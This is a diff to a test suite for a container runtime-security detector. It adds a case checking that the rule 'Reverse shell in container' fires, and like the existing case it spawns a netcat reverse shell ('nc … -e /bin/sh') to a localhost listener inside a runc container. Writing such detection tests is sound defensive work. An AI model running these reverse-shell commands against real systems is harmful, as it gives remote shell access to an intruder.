@@ -239,6 +239,11 @@ describe('techniques raise their rules (real runc containers, default rule pack)
       name: 'reverse shell (nc -e /bin/sh to a listener)', rule: 'Reverse shell in container', box: 'hostnet', exe: busybox,
       args: [], setup: () => ['nc', '127.0.0.1', String(shellPort), '-e', '/bin/sh'],
     },
+    {
+      name: 'reverse shell running a command (nc -e sh -c CMD: stdio on a TCP socket)', rule: 'Reverse shell in container', box: 'hostnet', exe: busybox,
+      args: [], setup: () => ['nc', '127.0.0.1', String(shellPort), '-e', '/bin/sh', '-c', 'id; sleep 1'],
+      want: (m) => /stdin=socket\(inet\)/.test(m.message),
+    },
   ];
 
   for (const t of TECHNIQUES) {
